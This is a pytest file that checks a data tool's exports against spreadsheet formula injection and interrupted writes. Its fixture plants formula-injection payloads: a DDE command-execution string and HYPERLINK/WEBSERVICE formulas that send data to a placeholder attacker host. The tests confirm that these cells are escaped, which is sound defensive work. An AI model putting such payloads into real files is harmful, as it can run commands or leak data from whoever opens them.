"""Exports are safe to open and safe to interrupt (issue 15, items 8, 9, 13, 14): no cell runs as a
spreadsheet formula, a killed export leaves the previous file whole, filters name real types."""

from __future__ import annotations

import json
import os
import shutil
import signal
import subprocess
import sys
import textwrap

import duckdb
import pytest
from corpus_util import coded_db, query, small_corpus, texts  # noqa: F401 (fixtures)

from eventmill.config import Config
from eventmill.corpus.runner import RunOptions, run
from eventmill.errors import ConfigError
from eventmill.writers.acled import safe_cell
from eventmill.writers.atomic import leftovers, sweep
from eventmill.writers.exports import Filters, export

pd = pytest.importorskip("pandas")

HOSTILE = {
    "actor1": "=cmd|' /C calc'!A0",
    "actor2": "+1+1",
    "location": "@SUM(A1:A9)",
    "admin1": "-2+3",
    "evidence": '=HYPERLINK("http://evil.example/?q="&A1)',
}
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def hostile_db(coded_db, tmp_path):
    db = tmp_path / "hostile.duckdb"
    shutil.copy(coded_db, db)
    con = duckdb.connect(str(db))
    try:
        sets = ", ".join(f"{k} = ?" for k in HOSTILE)
        con.execute(f"UPDATE events SET {sets}", list(HOSTILE.values()))
        con.execute("UPDATE articles SET outlet = '=WEBSERVICE(\"http://evil.example\")', url = NULL")
    finally:
        con.close()
    return db


def test_no_acled_csv_cell_starts_like_a_formula_and_numbers_stay_numbers(hostile_db, tmp_path):
    out = tmp_path / "e.csv"
    n = export(hostile_db, "acled-csv", out)
    df = pd.read_csv(out, keep_default_na=False, dtype=str)
    cells = [c for col in df.columns for c in df[col]]
    assert n > 0 and not [c for c in cells if c.startswith(DANGEROUS) and not c.lstrip("+-").replace(".", "").isdigit()]
    for col, value in HOSTILE.items():
        column = {"evidence": "notes"}.get(col, col)
        assert set(df[column]) == {"'" + value}, column  # the text itself is kept, behind a quote
    assert set(df.source) == {'\'=WEBSERVICE("http://evil.example")'}
    numeric = pd.read_csv(out, keep_default_na=False)
    assert numeric.fatalities.dtype.kind == "i" and (numeric.latitude == "").sum() < len(numeric)


@pytest.mark.parametrize(
    "value, cell",
    [("=1+1", "'=1+1"), ("-3.5", "-3.5"), (-3.5, -3.5), ("@x", "'@x"), ("\tx", "'\tx"), ("- Alep", "'- Alep")],
)
def test_safe_cell(value, cell):
    assert safe_cell(value) == cell


@pytest.mark.skipif(not shutil.which("soffice"), reason="LibreOffice (libreoffice-calc-nogui) is not installed")
def test_libreoffice_shows_the_hostile_cells_as_text(hostile_db, tmp_path):
    out = tmp_path / "e.csv"
    export(hostile_db, "acled-csv", out)
    subprocess.run(
        [
            "soffice",
            "--headless",
            f"-env:UserInstallation=file://{tmp_path}/lo",
            "--convert-to",
            "ods",
            "--outdir",
            str(tmp_path),
            str(out),
        ],
        check=True,
        capture_output=True,
        timeout=300,
    )
    import zipfile

    content = zipfile.ZipFile(tmp_path / "e.ods").read("content.xml").decode("utf-8")
    assert "table:formula" not in content  # no cell became a formula
    assert "cmd|" in content and "HYPERLINK" in content  # the text is still there


def test_source_is_the_outlet_else_the_host_of_the_url(tmp_path):
    lines = [
        {"text": f"{t} Dépêche {i}.", **meta}
        for i, (t, meta) in enumerate(
            [
                (
                    "Six civils ont été tués jeudi à Alep dans des bombardements du régime syrien.",
                    {"outlet": "Le Monde"},
                ),
                (
                    "Six civils ont été tués jeudi à Alep dans des bombardements du régime syrien.",
                    {"url": "https://www.france24.com/a"},
                ),
            ]
        )
    ]
    path = tmp_path / "in.jsonl"
    path.write_text("".join(json.dumps(x) + "\n" for x in lines), encoding="utf-8")
    db = tmp_path / "s.duckdb"
    run([path], Config(), RunOptions(db=db, workers=0, progress=False))
    export(db, "acled-csv", tmp_path / "e.csv")
    df = pd.read_csv(tmp_path / "e.csv", keep_default_na=False)
    assert set(df.source) == {"Le Monde", "france24.com"}


def test_an_unknown_type_filter_is_an_error_listing_the_plover_types():
    with pytest.raises(ConfigError, match="ATTACK: not a PLOVER type; choose from .*ASSAULT"):
        Filters.parse(types=["ATTACK"])
    assert Filters.parse(types=["assault,protest"]).types == ("ASSAULT", "PROTEST")


KILLER = textwrap.dedent(
    """
    import os, signal, sys
    from eventmill.writers import exports
    real = exports._jsonl
    def dying(rows, fh):
        real(rows, fh)
        fh.flush()
        os.kill(os.getpid(), signal.SIGKILL)  # killed after writing every row, before the end
    exports._jsonl = dying
    exports.export(sys.argv[1], "jsonl", sys.argv[2])
    """
)


def test_an_export_killed_with_kill_9_leaves_the_previous_file_whole_and_its_debris_is_swept(coded_db, tmp_path):
    out = tmp_path / "events.jsonl"
    n = export(coded_db, "jsonl", out)
    before = out.read_bytes()
    proc = subprocess.run(
        [sys.executable, "-c", KILLER, str(coded_db), str(out)],
        env=os.environ | {"PYTHONPATH": os.pathsep.join(sys.path)},
    )
    assert proc.returncode == -signal.SIGKILL
    assert out.read_bytes() == before and len(before.splitlines()) == n  # not shrunk, not replaced by a partial file
    [debris] = leftovers(out)
    assert debris.name.startswith(".events.jsonl.") and debris.stat().st_size > 0
    assert export(coded_db, "jsonl", out) == n and not debris.exists() and not leftovers(out)
    assert sweep(out) == []


def test_an_export_that_fails_midway_leaves_no_file(coded_db, tmp_path, monkeypatch):
    from eventmill.writers import exports

    def broken(rows, fh):
        fh.write("partial\n")
        raise RuntimeError("disk full")

    monkeypatch.setattr(exports, "_geojson", broken)
    with pytest.raises(RuntimeError):
        export(coded_db, "geojson", tmp_path / "e.geojson")
    assert list(tmp_path.iterdir()) == []
    assert query(coded_db, "SELECT count(*) FROM events")[0][0] > 0


def test_sql_prints_rows_in_three_formats_and_never_writes(coded_db, capsys):
    from eventmill import cli

    n = query(coded_db, "SELECT count(*) FROM events")[0][0]
    assert cli.main(["sql", "SELECT count(*) AS n FROM events", "--db", str(coded_db), "--format", "jsonl"]) == 0
    assert json.loads(capsys.readouterr().out) == {"n": n}
    assert cli.main(["sql", "SELECT type FROM events LIMIT 2", "--db", str(coded_db), "--format", "csv"]) == 0
    assert capsys.readouterr().out.splitlines()[0] == "type"
    assert cli.main(["sql", "SELECT 1 AS one", "--db", str(coded_db)]) == 0
    assert capsys.readouterr().out.split() == ["one", "---", "1"]
    assert cli.main(["sql", "DELETE FROM events", "--db", str(coded_db)]) == 4
    assert "read-only" in capsys.readouterr().err and query(coded_db, "SELECT count(*) FROM events")[0][0] == n
    assert cli.main(["sql", "SELEC nonsense", "--db", str(coded_db)]) == 4


def test_export_with_an_unknown_type_exits_4(coded_db, tmp_path, capsys):
    from eventmill import cli

    assert (
        cli.main(["export", "--db", str(coded_db), "--format", "jsonl", "-o", str(tmp_path / "e"), "--type", "ATTACK"])
        == 4
    )
    assert "ASSAULT" in capsys.readouterr().err and not (tmp_path / "e").exists()


def test_the_progress_bar_says_loading_models_until_the_first_batch(tmp_path, capsys):
    (tmp_path / "in").mkdir()
    (tmp_path / "in" / "a.txt").write_text(
        "Six civils ont été tués jeudi à Alep dans des bombardements du régime syrien.", encoding="utf-8"
    )
    run([tmp_path / "in"], Config(), RunOptions(db=tmp_path / "p.duckdb", workers=0, progress=True))
    err = capsys.readouterr().err
    assert "loading models…" in err and "1/1" in err


def test_an_export_to_a_device_or_pipe_writes_to_it_directly(coded_db, tmp_path):
    if not hasattr(os, "mkfifo"):
        pytest.skip("no named pipes here")
    import threading

    pipe = tmp_path / "pipe"
    os.mkfifo(pipe)
    got: list[bytes] = []
    reader = threading.Thread(target=lambda: got.append(pipe.read_bytes()), daemon=True)
    reader.start()
    n = export(coded_db, "jsonl", pipe)
    reader.join(30)
    assert len(got[0].splitlines()) == n and sorted(p.name for p in tmp_path.iterdir()) == ["pipe"]
